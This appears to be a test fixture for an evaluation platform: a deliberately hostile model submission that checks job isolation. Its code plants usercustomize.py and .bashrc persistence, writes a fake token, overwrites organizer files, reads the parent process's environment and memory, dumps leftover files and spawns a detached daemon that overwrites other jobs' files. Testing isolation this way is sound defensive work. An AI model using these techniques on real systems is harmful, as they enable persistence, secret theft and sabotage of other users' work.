# Mallory's model is hostile. Run by the organizer's entry point like any model, it tries to leave
# something behind for the next job and to read what jobs and the app keep. What it manages or not
# becomes its "predictions" (key,value rows), which Podium then receives.
import json
import os
import site
import subprocess
import sys
import time


def attempt(action):
    try:
        action()
        return "done"
    except OSError as error:
        return "denied" if isinstance(error, PermissionError) else type(error).__name__


def write(path, text):
    def action():
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "a") as file:
            file.write(text)
    return attempt(action)


def read(path):
    def action():
        with open(path, "rb") as file:
            file.read(64)
    return attempt(action)


def predict(ids):
    channel = os.environ["EVAL_TEST_CHANNEL"]
    with open(os.path.join(channel, "config.json")) as file:
        config = json.load(file)
    report = {"home": os.environ["HOME"]}

    # A usercustomize.py runs in every Python that has this user site enabled: plant it, in its own
    # user site and in the app's home, and show that it works here.
    planted = "open(%r, 'a').write(__import__('os').environ.get('HOME', '') + chr(10))\n" % (
        os.path.join(channel, "usercustomize.log"))
    report["plant_user_site"] = write(os.path.join(site.getusersitepackages(), "usercustomize.py"), planted)
    version = "python%d.%d" % sys.version_info[:2]
    write(os.path.join(config["home"], ".local", "lib", version, "site-packages", "usercustomize.py"), planted)
    environment = dict(os.environ, PYTHONNOUSERSITE="")
    subprocess.run([sys.executable, "-c", "pass"], env=environment, check=True)

    # Files for the next job to find.
    write(os.path.join(config["tmp"], "planted.txt"), "from mallory")
    write(os.path.join(config["tmp"], "planted-dir", "inner.txt"), "from mallory")
    write(os.path.join(config["home"], ".cache", "huggingface", "token"), "hf_" + "planted" * 5)
    write(os.path.join(os.environ["TMPDIR"], "scratch.txt"), "from mallory")
    write(os.path.join(os.environ["HOME"], ".bashrc"), "echo from mallory")

    # The organizer's files.
    report["data_write"] = write(os.path.join(os.environ["DATA_DIR"], "test.txt"), "99\n")
    report["data_create"] = write(os.path.join(os.environ["DATA_DIR"], "planted.txt"), "from mallory")
    report["app_write"] = write(os.path.join(config["app"], "predict.py"), "# from mallory\n")
    report["entry_point_write"] = write(config["entry_point"], "# from mallory\n")

    # The app's memory and environment (the app is this process's parent).
    report["app_environ"] = read("/proc/%d/environ" % os.getppid())
    report["app_mem"] = read("/proc/%d/mem" % os.getppid())

    # Whatever the jobs before left readable: dumped for the test to search.
    with open(os.path.join(channel, "mallory-dump.txt"), "w") as dump:
        for place in (config["work"], config["tmp"], config["home"]):
            for directory, _, files in os.walk(place):
                for name in files:
                    try:
                        with open(os.path.join(directory, name), "rb") as file:
                            dump.write("--- %s\n%s\n" % (os.path.join(directory, name),
                                                         file.read(65536).decode("utf-8", "replace")))
                    except OSError:
                        pass

    # A daemon that escapes the job's session and keeps overwriting every file it can reach in the
    # app's work directory (the next job's model and predictions), for up to a minute.
    own_job = os.path.dirname(os.environ["MODEL_DIR"])
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            with open(os.path.join(channel, "daemon.pid"), "w") as file:
                file.write(str(os.getpid()))
            end = time.time() + 60
            while time.time() < end:
                for directory, _, files in os.walk(config["work"]):
                    if directory.startswith(own_job):
                        continue
                    for name in files:
                        try:
                            with open(os.path.join(directory, name), "w") as file:
                                file.write("tampered by mallory's daemon\n")
                        except OSError:
                            pass
                with open(os.path.join(config["tmp"], "daemon-heartbeat.txt"), "a") as file:
                    file.write("%f\n" % time.time())
                time.sleep(0.02)
        os._exit(0)
    deadline = time.time() + 10
    while not os.path.exists(os.path.join(channel, "daemon.pid")) and time.time() < deadline:
        time.sleep(0.01)
    with open(os.path.join(channel, "daemon.pid")) as file:
        report["daemon"] = file.read().strip()
    return sorted(report.items())
